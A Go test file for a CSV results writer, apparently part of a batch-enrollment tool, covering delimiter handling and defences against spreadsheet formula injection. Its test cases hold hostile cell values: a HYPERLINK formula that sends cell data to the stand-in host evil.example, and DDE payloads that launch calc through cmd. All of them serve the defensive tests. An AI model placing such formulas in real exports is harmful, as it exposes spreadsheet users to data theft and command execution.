package output

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/enrollbatch/enrollbatch/results"
)

// readResultsCSV reads results.csv as Excel would after the byte order mark:
// with the given delimiter.
func readResultsCSV(t *testing.T, path string, delim rune) [][]string {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(data, []byte{0xEF, 0xBB, 0xBF}) {
		t.Fatalf("no UTF-8 byte order mark: % x", data[:min(len(data), 8)])
	}
	r := csv.NewReader(bytes.NewReader(data[3:]))
	r.Comma = delim
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("read back with %q: %v\n%s", delim, err, data)
	}
	return recs
}

func TestWriteCSVDelimiter(t *testing.T) {
	tests := []struct {
		name  string
		input rune // the input's delimiter as the reader found it
		want  rune
	}{
		{"XLSX input, no delimiter", 0, ','},
		{"comma", ',', ','},
		{"semicolon (European Excel)", ';', ';'},
		{"tab (Unicode Text)", '\t', '\t'},
		{"pipe from sep=|", '|', '|'},
		{"a delimiter CSV cannot use falls back to comma", '"', ','},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			path := filepath.Join(t.TempDir(), "results.csv")
			run := results.Run{ExtraHeaders: []string{"Site"}, Delimiter: tt.input}
			rs := []results.Result{{Row: 2, DisplayName: "Straße; Süd, Tor 3", Status: results.Created, Extras: []string{"Köln\tWest"}}}
			if err := WriteCSV(path, run, rs); err != nil {
				t.Fatal(err)
			}
			data, _ := os.ReadFile(path)
			if first, _, _ := strings.Cut(string(data[3:]), "\n"); !strings.HasPrefix(first, "row"+string(tt.want)+"displayName"+string(tt.want)+"status") {
				t.Errorf("header line %q does not use %q", first, tt.want)
			}
			recs := readResultsCSV(t, path, tt.want)
			if len(recs) != 2 || len(recs[1]) != len(Columns)+1 {
				t.Fatalf("records %q", recs)
			}
			if recs[1][1] != "Straße; Süd, Tor 3" || recs[1][len(Columns)] != "Köln\tWest" {
				t.Errorf("values changed: %q", recs[1])
			}
		})
	}
}

func TestDefuse(t *testing.T) {
	tests := []struct {
		in, want string
		changed  bool
	}{
		{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, `'=HYPERLINK("http://evil.example/?"&A1,"Click")`, true},
		{`+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`, true},
		{`-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`, true},
		{`@SUM(1+1)*cmd|' /C calc'!A0`, `'@SUM(1+1)*cmd|' /C calc'!A0`, true},
		{"\t=1+1", "'\t=1+1", true},
		{"\r=1+1", "'\r=1+1", true},
		{"", "", false},
		{"Leeds DC", "Leeds DC", false},
		{"a=b", "a=b", false},
		{" =1+1", " =1+1", false}, // Excel does not run a formula after a space
		{"'=1", "'=1", false},
		{"Straße", "Straße", false},
	}
	for _, tt := range tests {
		got, changed := defuse(tt.in)
		if got != tt.want || changed != tt.changed {
			t.Errorf("defuse(%q) = %q, %v; want %q, %v", tt.in, got, changed, tt.want, tt.changed)
		}
	}
}

// TestWriteCSVDefusesFormulas writes values from the input and from the
// service that a spreadsheet would run, and checks that each cell, header
// included, starts with a single quote, and that the row's notes say which
// columns were changed.
func TestWriteCSVDefusesFormulas(t *testing.T) {
	path := filepath.Join(t.TempDir(), "results.csv")
	run := results.Run{ExtraHeaders: []string{"=Site", "Technician"}, Delimiter: ';'}
	rs := []results.Result{
		{Row: 2, DisplayName: `=HYPERLINK("http://evil.example","x")`, Description: "+cmd|' /C calc'!A0", Status: results.Failed,
			ErrorCode: "BadRequest", ErrorMessage: "@SUM(1+1)", ErrorRaw: "-1+1", Notes: []string{"an earlier note"}, Extras: []string{"\t=1", "ok"}},
		{Row: 3, DisplayName: "Plain", Status: results.Created, Extras: []string{"Leeds", "A. Nowak"}},
	}
	if err := WriteCSV(path, run, rs); err != nil {
		t.Fatal(err)
	}
	recs := readResultsCSV(t, path, ';')
	col := func(name string) int {
		for i, h := range recs[0] {
			if h == name {
				return i
			}
		}
		t.Fatalf("no column %q in %q", name, recs[0])
		return -1
	}
	if recs[0][len(Columns)] != "'=Site" {
		t.Errorf("extra header %q, want '=Site", recs[0][len(Columns)])
	}
	row := recs[1]
	for name, want := range map[string]string{
		"displayName":  `'=HYPERLINK("http://evil.example","x")`,
		"description":  "'+cmd|' /C calc'!A0",
		"errorMessage": "'@SUM(1+1)",
		"errorRaw":     "'-1+1",
		"errorCode":    "BadRequest",
	} {
		if got := row[col(name)]; got != want {
			t.Errorf("%s = %q, want %q", name, got, want)
		}
	}
	if got := row[col("'=Site")]; got != "'\t=1" {
		t.Errorf("extra = %q, want '\\t=1", got)
	}
	wantNote := "an earlier note\nresults.csv: a ' was put before displayName, errorMessage, description, errorRaw, '=Site so that a spreadsheet shows the text instead of running it as a formula"
	if got := row[col("notes")]; got != wantNote {
		t.Errorf("notes = %q\nwant %q", got, wantNote)
	}
	if got := recs[2][col("notes")]; got != "" {
		t.Errorf("a row with nothing defused has notes %q", got)
	}
	// Every cell of every line: nothing left that a spreadsheet would run.
	for i, rec := range recs {
		for j, v := range rec {
			if _, changed := defuse(v); changed {
				t.Errorf("line %d, column %d: %q would run as a formula", i+1, j+1, v)
			}
		}
	}
}
